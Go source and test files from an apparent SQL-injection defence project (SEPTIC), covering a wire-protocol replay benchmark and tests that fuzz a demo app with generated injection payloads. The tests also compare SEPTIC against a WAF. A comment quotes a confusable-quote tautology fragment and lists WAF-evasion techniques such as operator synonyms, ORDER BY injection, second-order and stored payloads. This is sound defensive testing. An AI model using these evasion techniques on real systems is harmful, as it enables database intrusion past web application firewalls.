