// Package wirebench measures the wire protocol the way benchlab
// measures the engine: it deploys one of the paper's applications,
// records the exact SQL trace the application issues while serving its
// benign workload once, then replays that trace over a real loopback
// wire session — synchronously over v1 JSON frames, or pipelined over
// v2 binary frames with a bounded in-flight window — and reports
// queries per second.
//
// The package exists so the sync-versus-pipelined comparison runs the
// *same* benign replay mix as the latency study (same app, same SEPTIC
// configuration, same statements in the same order) instead of a
// synthetic query loop: the only variable between the measured series
// is the protocol.
//
// It lives in a subpackage because benchlab itself cannot import
// internal/wire — the wire package's chaos tests deploy benchlab apps,
// so the reverse import would be a cycle.
package wirebench

import (
	"fmt"
	"sync"
	"sync/atomic"
	"time"

	"github.com/septic-db/septic/internal/benchlab"
	"github.com/septic-db/septic/internal/core"
	"github.com/septic-db/septic/internal/engine"
	"github.com/septic-db/septic/internal/wire"
)

// Query is one recorded SQL statement with its bound arguments.
type Query struct {
	SQL  string
	Args []engine.Value
}

// recorder wraps the engine as the application's executor and, while
// armed, captures every statement the application issues.
type recorder struct {
	db        *engine.DB
	recording bool
	trace     []Query
}

func (r *recorder) Exec(q string) (*engine.Result, error) {
	if r.recording {
		r.trace = append(r.trace, Query{SQL: q})
	}
	return r.db.Exec(q)
}

func (r *recorder) ExecArgs(q string, args ...engine.Value) (*engine.Result, error) {
	if r.recording {
		r.trace = append(r.trace, Query{SQL: q, Args: append([]engine.Value(nil), args...)})
	}
	return r.db.ExecArgs(q, args...)
}

// Params sets the replay shape.
type Params struct {
	// Clients is the number of concurrent wire connections (default 1).
	Clients int
	// Depth is the pipeline window per client. Depth ≤ 1 replays
	// synchronously over the legacy v1 JSON protocol — the baseline the
	// pipelined series is compared against. Depth > 1 negotiates v2 and
	// keeps up to Depth requests in flight per connection.
	Depth int
	// Loops is how many times each client replays the recorded trace.
	Loops int
	// Workers is the server's per-connection worker pool (0 = default).
	Workers int
	// MaxInFlight is the server's per-connection admission bound
	// (0 = default).
	MaxInFlight int
}

// Result is one measured replay series.
type Result struct {
	Config   benchlab.SepticConfig
	Depth    int
	Clients  int
	Protocol int // negotiated protocol version (1 or 2)
	TraceLen int // statements per replay loop
	Queries  int64
	Errors   int64
	Elapsed  time.Duration
}

// PerSecond returns replay throughput in queries per second.
func (r *Result) PerSecond() float64 {
	if r.Elapsed <= 0 {
		return 0
	}
	return float64(r.Queries) / r.Elapsed.Seconds()
}

// Bench is one deployed wire-replay fixture: application schema applied,
// SEPTIC trained and switched to the measured configuration, the benign
// workload trace recorded, a wire server listening on loopback and the
// replay clients dialed and negotiated. Replay can then be invoked
// repeatedly (benchmarks call it once per timed iteration).
type Bench struct {
	cfg     benchlab.SepticConfig
	depth   int
	trace   []Query
	srv     *wire.Server
	clients []*wire.Client
}

// New deploys the fixture. Close releases it.
func New(spec benchlab.AppSpec, cfg benchlab.SepticConfig, p Params) (*Bench, error) {
	if p.Clients < 1 {
		p.Clients = 1
	}
	if p.Depth < 1 {
		p.Depth = 1
	}

	// Deployment mirrors benchlab's: raw engine for the baseline,
	// training-mode guard hooked into the engine otherwise.
	var guard *core.Septic
	var engineOpts []engine.Option
	if cfg != benchlab.ConfigBaseline {
		guard = core.New(core.Config{Mode: core.ModeTraining})
		engineOpts = append(engineOpts, engine.WithQueryHook(guard))
	}
	db := engine.New(engineOpts...)
	for _, q := range spec.Schema {
		if _, err := db.Exec(q); err != nil {
			return nil, fmt.Errorf("schema: %w", err)
		}
	}
	rec := &recorder{db: db}
	app := spec.Build(rec)
	for _, req := range spec.Training {
		if resp := app.Serve(req.Clone()); resp.Status != 200 {
			return nil, fmt.Errorf("training %s: %v", req, resp.Err)
		}
	}
	if guard != nil {
		guard.SetConfig(cfg.CoreConfig())
	}

	// One workload pass through the application records the benign SQL
	// trace — the exact statements, in order, with bound arguments —
	// that the replay loops push over the wire.
	rec.recording = true
	for _, req := range spec.Workload {
		if resp := app.Serve(req.Clone()); resp.Status >= 500 {
			return nil, fmt.Errorf("workload %s: %v", req, resp.Err)
		}
	}
	rec.recording = false
	if len(rec.trace) == 0 {
		return nil, fmt.Errorf("workload of %s recorded no statements", spec.Name)
	}

	var srvOpts []wire.ServerOption
	if p.Workers > 0 {
		srvOpts = append(srvOpts, wire.WithPipelineWorkers(p.Workers))
	}
	if p.MaxInFlight > 0 {
		srvOpts = append(srvOpts, wire.WithMaxInFlight(p.MaxInFlight))
	}
	srv := wire.NewServer(db, srvOpts...)
	addr, err := srv.Listen("127.0.0.1:0")
	if err != nil {
		return nil, fmt.Errorf("listen: %w", err)
	}

	b := &Bench{cfg: cfg, depth: p.Depth, trace: rec.trace, srv: srv}
	var dialOpts []wire.ClientOption
	if p.Depth > 1 {
		dialOpts = append(dialOpts, wire.WithPipeline(p.Depth))
	}
	for i := 0; i < p.Clients; i++ {
		c, err := wire.Dial(addr, dialOpts...)
		if err != nil {
			b.Close()
			return nil, fmt.Errorf("dial client %d: %w", i, err)
		}
		b.clients = append(b.clients, c)
	}
	return b, nil
}

// TraceLen returns the number of statements in one replay loop.
func (b *Bench) TraceLen() int { return len(b.trace) }

// Protocol returns the negotiated protocol version of the fixture's
// clients.
func (b *Bench) Protocol() int { return b.clients[0].ProtocolVersion() }

// Close shuts the clients and the server down.
func (b *Bench) Close() error {
	for _, c := range b.clients {
		_ = c.Close()
	}
	return b.srv.Close()
}

// Replay replays the recorded trace loops times on every client
// concurrently and returns the timed result. Statement errors are
// counted, not fatal — the trace is benign, so a non-zero count means
// the deployment is misbehaving and callers should fail on it.
func (b *Bench) Replay(loops int) *Result {
	if loops < 1 {
		loops = 1
	}
	var errs atomic.Int64
	var wg sync.WaitGroup
	start := time.Now()
	for _, c := range b.clients {
		wg.Add(1)
		go func(c *wire.Client) {
			defer wg.Done()
			if b.depth > 1 {
				errs.Add(b.replayPipelined(c, loops))
			} else {
				errs.Add(b.replaySync(c, loops))
			}
		}(c)
	}
	wg.Wait()
	elapsed := time.Since(start)
	return &Result{
		Config:   b.cfg,
		Depth:    b.depth,
		Clients:  len(b.clients),
		Protocol: b.Protocol(),
		TraceLen: len(b.trace),
		Queries:  int64(loops) * int64(len(b.trace)) * int64(len(b.clients)),
		Errors:   errs.Load(),
		Elapsed:  elapsed,
	}
}

// replaySync issues one statement at a time, waiting for each result —
// the v1 request/response baseline.
func (b *Bench) replaySync(c *wire.Client, loops int) (errs int64) {
	for l := 0; l < loops; l++ {
		for _, q := range b.trace {
			if _, err := c.ExecArgs(q.SQL, q.Args...); err != nil {
				errs++
			}
		}
	}
	return errs
}

// replayPipelined keeps up to depth statements in flight through a ring
// of futures: slot i is waited on just before it is reused, so the
// window stays full without unbounded future accumulation.
func (b *Bench) replayPipelined(c *wire.Client, loops int) (errs int64) {
	ring := make([]*wire.Future, b.depth)
	n := 0
	for l := 0; l < loops; l++ {
		for _, q := range b.trace {
			slot := n % b.depth
			if ring[slot] != nil {
				if _, err := ring[slot].Wait(); err != nil {
					errs++
				}
			}
			ring[slot] = c.Submit(q.SQL, q.Args...)
			n++
		}
	}
	for _, f := range ring {
		if f != nil {
			if _, err := f.Wait(); err != nil {
				errs++
			}
		}
	}
	return errs
}

// Run is the one-shot form: deploy, replay p.Loops times, close.
func Run(spec benchlab.AppSpec, cfg benchlab.SepticConfig, p Params) (*Result, error) {
	b, err := New(spec, cfg, p)
	if err != nil {
		return nil, err
	}
	defer b.Close()
	return b.Replay(p.Loops), nil
}
