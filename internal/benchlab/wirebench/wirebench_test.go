package wirebench

import (
	"testing"

	"github.com/septic-db/septic/internal/benchlab"
)

// TestSyncReplay pins the baseline series: depth 1 stays on the v1 JSON
// protocol and replays the recorded benign trace without a single error.
func TestSyncReplay(t *testing.T) {
	spec := benchlab.PaperSpecs()[0] // Address Book
	res, err := Run(spec, benchlab.ConfigYY, Params{Depth: 1, Loops: 2})
	if err != nil {
		t.Fatal(err)
	}
	if res.Protocol != 1 {
		t.Fatalf("sync replay negotiated protocol %d, want 1", res.Protocol)
	}
	if res.TraceLen == 0 {
		t.Fatal("recorded trace is empty")
	}
	if res.Errors != 0 {
		t.Fatalf("benign replay produced %d errors", res.Errors)
	}
	if want := int64(2 * res.TraceLen); res.Queries != want {
		t.Fatalf("queries = %d, want %d", res.Queries, want)
	}
	if res.PerSecond() <= 0 {
		t.Fatalf("throughput %v not positive", res.PerSecond())
	}
}

// TestPipelinedReplay pins the measured series: depth > 1 negotiates v2,
// keeps the window bounded, and the same trace replays error-free.
func TestPipelinedReplay(t *testing.T) {
	spec := benchlab.PaperSpecs()[0]
	res, err := Run(spec, benchlab.ConfigYY, Params{
		Depth: 8, Loops: 2, Clients: 2, Workers: 2, MaxInFlight: 16,
	})
	if err != nil {
		t.Fatal(err)
	}
	if res.Protocol != 2 {
		t.Fatalf("pipelined replay negotiated protocol %d, want 2", res.Protocol)
	}
	if res.Errors != 0 {
		t.Fatalf("benign replay produced %d errors", res.Errors)
	}
	if want := int64(2 * 2 * res.TraceLen); res.Queries != want {
		t.Fatalf("queries = %d, want %d", res.Queries, want)
	}
}

// TestBaselineDeploysWithoutGuard covers the no-SEPTIC series: the
// recorder and wire replay must work against the bare engine too.
func TestBaselineDeploysWithoutGuard(t *testing.T) {
	spec := benchlab.PaperSpecs()[0]
	b, err := New(spec, benchlab.ConfigBaseline, Params{Depth: 4})
	if err != nil {
		t.Fatal(err)
	}
	defer b.Close()
	if b.TraceLen() == 0 {
		t.Fatal("trace empty")
	}
	res := b.Replay(1)
	if res.Errors != 0 {
		t.Fatalf("baseline replay produced %d errors", res.Errors)
	}
	// Replay is repeatable on the same fixture (benchmarks rely on it).
	if res2 := b.Replay(1); res2.Errors != 0 {
		t.Fatalf("second replay produced %d errors", res2.Errors)
	}
}
