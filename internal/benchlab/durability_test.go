package benchlab

import (
	"strings"
	"testing"
)

func TestRunDurability(t *testing.T) {
	rows, err := RunDurability(t.TempDir(), 32)
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(DurabilityPolicies()) {
		t.Fatalf("%d rows, want %d", len(rows), len(DurabilityPolicies()))
	}
	for _, r := range rows {
		if r.TrainPerUpdate <= 0 || r.DetectPerQuery <= 0 {
			t.Fatalf("row %s has zero latency: %+v", r.Policy, r)
		}
		switch r.Policy {
		case "off":
			if r.Appends != 0 {
				t.Fatalf("no-WAL row has %d appends", r.Appends)
			}
		case "always":
			// 32 puts + 1 config record, each fsynced.
			if r.Appends != 33 || r.Fsyncs != r.Appends {
				t.Fatalf("always row: %+v", r)
			}
		default:
			if r.Appends != 33 {
				t.Fatalf("%s row: %+v", r.Policy, r)
			}
		}
	}
	out := FormatDurability(rows)
	for _, want := range []string{"policy", "off", "always", "%"} {
		if !strings.Contains(out, want) {
			t.Fatalf("table missing %q:\n%s", want, out)
		}
	}
}
