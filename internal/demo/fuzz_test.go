package demo

import (
	"testing"

	"github.com/septic-db/septic/internal/attacks"
	"github.com/septic-db/septic/internal/core"
	"github.com/septic-db/septic/internal/engine"
	"github.com/septic-db/septic/internal/webapp"
	"github.com/septic-db/septic/internal/webapp/apps"
)

// protectedWaspMon deploys WaspMon with SEPTIC trained and in prevention.
func protectedWaspMon(t *testing.T) (*webapp.App, *core.Septic) {
	t.Helper()
	guard := core.New(core.Config{Mode: core.ModeTraining})
	db := engine.New(engine.WithQueryHook(guard))
	app, err := freshWaspMon(db, db)
	if err != nil {
		t.Fatal(err)
	}
	if err := background(app); err != nil {
		t.Fatal(err)
	}
	guard.SetConfig(core.Config{
		Mode: core.ModePrevention, DetectSQLI: true, DetectStored: true,
		IncrementalLearning: false,
	})
	return app, guard
}

// TestGeneratedStringPayloadsNeverLeak is the sqlmap-style stress test
// of the zero-false-negative claim: for hundreds of generated payload
// variants against the string-context entry point, every outcome must be
// blocked, rejected, or semantically harmless (the payload stayed inside
// the literal and simply matched no device). A device listing in the
// response is a leak and fails the test.
func TestGeneratedStringPayloadsNeverLeak(t *testing.T) {
	app, _ := protectedWaspMon(t)
	payloads := attacks.GenerateStringContext(1, 300)

	benign := app.Serve(webapp.Request{Path: "/device/view",
		Params: map[string]string{"name": "no-such-device"}})
	if benign.Status != 200 {
		t.Fatalf("benign probe failed: %+v", benign)
	}

	var blocked, harmless, rejected int
	for _, p := range payloads {
		resp := app.Serve(webapp.Request{Path: "/device/view",
			Params: map[string]string{"name": p}})
		switch {
		case resp.Blocked:
			blocked++
		case resp.Status == 500:
			rejected++ // malformed SQL after decode: the engine refused it
		case resp.Status == 200 && resp.Body == benign.Body:
			harmless++ // stayed inside the literal, matched nothing
		default:
			t.Fatalf("payload %q leaked: status %d body %q", p, resp.Status, resp.Body)
		}
	}
	if blocked == 0 {
		t.Error("no generated payload was blocked — generator too weak")
	}
	t.Logf("300 payloads: %d blocked, %d harmless, %d rejected", blocked, harmless, rejected)
}

// TestGeneratedNumericPayloadsNeverLeak does the same for the unquoted
// numeric entry point, where escaping is structurally useless.
func TestGeneratedNumericPayloadsNeverLeak(t *testing.T) {
	app, _ := protectedWaspMon(t)
	payloads := attacks.GenerateNumericContext(2, 200)

	benign := app.Serve(webapp.Request{Path: "/reading/history",
		Params: map[string]string{"device": "1", "limit": "100"}})
	if benign.Status != 200 {
		t.Fatalf("benign probe failed: %+v", benign)
	}

	var blocked, harmless, rejected int
	for _, p := range payloads {
		resp := app.Serve(webapp.Request{Path: "/reading/history",
			Params: map[string]string{"device": p, "limit": "100"}})
		switch {
		case resp.Blocked:
			blocked++
		case resp.Status == 500:
			rejected++
		case resp.Status == 200 && resp.Body == benign.Body:
			harmless++
		default:
			t.Fatalf("payload %q leaked: status %d body %q", p, resp.Status, resp.Body)
		}
	}
	if blocked == 0 {
		t.Error("no generated payload was blocked — generator too weak")
	}
	t.Logf("200 payloads: %d blocked, %d harmless, %d rejected", blocked, harmless, rejected)
}

// TestGeneratedPayloadsAllExecuteUnprotected is the phase-A counterpart:
// without SEPTIC the structural payloads do fire (several of them leak),
// proving the stress test exercises live attacks rather than duds.
func TestGeneratedPayloadsLeakUnprotected(t *testing.T) {
	db := engine.New()
	app, err := freshWaspMon(db, db)
	if err != nil {
		t.Fatal(err)
	}
	if err := background(app); err != nil {
		t.Fatal(err)
	}
	benign := app.Serve(webapp.Request{Path: "/device/view",
		Params: map[string]string{"name": "no-such-device"}})

	leaks := 0
	for _, p := range attacks.GenerateStringContext(1, 300) {
		resp := app.Serve(webapp.Request{Path: "/device/view",
			Params: map[string]string{"name": p}})
		if resp.Status == 200 && resp.Body != benign.Body {
			leaks++
		}
	}
	if leaks == 0 {
		t.Error("no generated payload leaked against the unprotected app — generator is inert")
	}
	t.Logf("unprotected: %d/300 payloads leaked data", leaks)
}

// TestWorkloadStillCleanAfterFuzz: after the storm, the application's
// normal traffic still flows (no residual state corrupts the models).
func TestWorkloadStillCleanAfterFuzz(t *testing.T) {
	app, guard := protectedWaspMon(t)
	for _, p := range attacks.GenerateStringContext(3, 100) {
		_ = app.Serve(webapp.Request{Path: "/device/view",
			Params: map[string]string{"name": p}})
	}
	found := guard.Stats().AttacksFound
	for _, req := range apps.WaspMonWorkload() {
		if resp := app.Serve(req.Clone()); resp.Status != 200 {
			t.Errorf("workload %s failed after fuzz: %v", req, resp.Err)
		}
	}
	if guard.Stats().AttacksFound != found {
		t.Error("benign workload raised detections after fuzz")
	}
}
