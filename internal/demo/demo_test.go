package demo

import (
	"strings"
	"testing"

	"github.com/septic-db/septic/internal/attacks"
)

// TestDemoPhases runs the whole demonstration and checks the paper's
// headline claims case by case: every corpus label must hold.
func TestDemoPhases(t *testing.T) {
	report, err := Run()
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	if len(report.Outcomes) != len(attacks.Corpus()) {
		t.Fatalf("outcomes = %d, want %d", len(report.Outcomes), len(attacks.Corpus()))
	}

	for _, o := range report.Outcomes {
		c := o.Case
		// Phase A: with sanitization only, every attack executes.
		if !o.ExecutedUnprotected {
			t.Errorf("%s: did not execute against sanitization-only app", c.Name)
		}
		// Phase B: the WAF blocks exactly the non-evading cases.
		if o.BlockedByWAF == c.EvadesWAF {
			t.Errorf("%s: BlockedByWAF=%t but EvadesWAF=%t", c.Name, o.BlockedByWAF, c.EvadesWAF)
		}
		// Proxy baseline: labels must match.
		if o.BlockedByProxy == c.EvadesProxy {
			t.Errorf("%s: BlockedByProxy=%t but EvadesProxy=%t", c.Name, o.BlockedByProxy, c.EvadesProxy)
		}
		// Phase D: SEPTIC blocks everything — zero false negatives.
		if !o.BlockedBySeptic {
			t.Errorf("%s: SEPTIC missed the attack", c.Name)
		}
	}

	// Phase C: training learned models and a retrain added none.
	if report.ModelsLearned == 0 {
		t.Error("training learned no models")
	}
	if report.RetrainAdded != 0 {
		t.Errorf("retrain added %d models, want 0", report.RetrainAdded)
	}

	// Phase D/E: zero false positives for SEPTIC on benign traffic.
	if report.FP.Septic != 0 {
		t.Errorf("SEPTIC false positives = %d, want 0", report.FP.Septic)
	}
	// The WAF and proxy must also be clean on this benign set (the demo's
	// benign traffic is not adversarial to them).
	if report.FP.WAF != 0 {
		t.Errorf("WAF false positives = %d on plain benign traffic", report.FP.WAF)
	}
	if report.FP.Proxy != 0 {
		t.Errorf("proxy false positives = %d on plain benign traffic", report.FP.Proxy)
	}

	// Phase E: SEPTIC strictly dominates the other mechanisms.
	det := report.DetectionCounts()
	if det["septic"] != len(report.Outcomes) {
		t.Errorf("septic detected %d/%d", det["septic"], len(report.Outcomes))
	}
	if det["modsec"] >= det["septic"] {
		t.Errorf("modsec (%d) should trail septic (%d)", det["modsec"], det["septic"])
	}
	if det["proxy"] >= det["septic"] {
		t.Errorf("proxy (%d) should trail septic (%d)", det["proxy"], det["septic"])
	}
}

func TestDemoSummaryRenders(t *testing.T) {
	report, err := Run()
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	s := report.Summary()
	for _, want := range []string{
		"phase E", "tautology-encoded-quote", "second-order-profile",
		"detection totals", "false positives", "training",
	} {
		if !strings.Contains(s, want) {
			t.Errorf("summary missing %q:\n%s", want, s)
		}
	}
}

// TestMismatchCasesEvadeEverythingButSeptic is the paper's thesis in one
// assertion: for every semantic-mismatch attack, SEPTIC is the only
// mechanism that blocks it.
func TestMismatchCasesEvadeEverythingButSeptic(t *testing.T) {
	report, err := Run()
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	found := 0
	for _, o := range report.Outcomes {
		if !o.Case.Mismatch || !o.Case.EvadesWAF {
			continue
		}
		found++
		if o.BlockedByWAF || !o.BlockedBySeptic {
			t.Errorf("%s: WAF=%t SEPTIC=%t, want only SEPTIC", o.Case.Name,
				o.BlockedByWAF, o.BlockedBySeptic)
		}
	}
	if found == 0 {
		t.Fatal("no WAF-evading mismatch cases in corpus")
	}
}
