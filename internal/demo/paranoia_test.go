package demo

import (
	"testing"

	"github.com/septic-db/septic/internal/waf"
)

// TestParanoia2Ablation runs the whole demonstration against a
// paranoia-2 WAF: the aggressive bare-boolean rule closes the
// confusable-tautology holes (their decoded form still reads
// "OR x=y" byte-wise)...
// but operator synonyms, ORDER BY injections, second-order triggers and
// the evasive stored payloads remain invisible, and SEPTIC still
// strictly dominates. The FP risk PL2 trades for that coverage does not
// fire on this benign set; CRS gates the rule behind PL2 precisely
// because broader traffic does trip it.
func TestParanoia2Ablation(t *testing.T) {
	pl1, err := Run()
	if err != nil {
		t.Fatal(err)
	}
	pl2, err := Run(WithWAFOptions(waf.WithParanoia(waf.Paranoia2)))
	if err != nil {
		t.Fatal(err)
	}

	det1 := pl1.DetectionCounts()["modsec"]
	det2 := pl2.DetectionCounts()["modsec"]
	if det2 <= det1 {
		t.Errorf("paranoia 2 should catch more: PL1=%d PL2=%d", det1, det2)
	}

	// Per-case expectations at PL2.
	wantCaught := map[string]bool{
		"tautology-encoded-quote": true, // "or ʼ1ʼ=ʼ1" matches the bare-boolean rule
		"mimicry-encoded-quote":   true,
	}
	wantStillMissed := []string{
		"tautology-operator-synonym", // '||' carries no OR/AND word
		"orderby-subquery",
		"orderby-case-blind",
		"second-order-profile", // the trigger request is a bare numeric id
		"second-order-encoded",
		"stored-xss-data-uri",
		"stored-rfi",
		"stored-osci-newline",
	}
	byName := make(map[string]Outcome, len(pl2.Outcomes))
	for _, o := range pl2.Outcomes {
		byName[o.Case.Name] = o
	}
	for name := range wantCaught {
		if !byName[name].BlockedByWAF {
			t.Errorf("%s: expected PL2 to catch it", name)
		}
	}
	for _, name := range wantStillMissed {
		if byName[name].BlockedByWAF {
			t.Errorf("%s: expected even PL2 to miss it", name)
		}
		if !byName[name].BlockedBySeptic {
			t.Errorf("%s: SEPTIC must still block it", name)
		}
	}

	// SEPTIC remains complete at both levels; PL2 stays clean on this
	// benign set.
	if pl2.DetectionCounts()["septic"] != len(pl2.Outcomes) {
		t.Error("SEPTIC coverage regressed under the PL2 run")
	}
	if pl2.FP.WAF != 0 {
		t.Errorf("PL2 false positives on the demo benign set = %d", pl2.FP.WAF)
	}
}
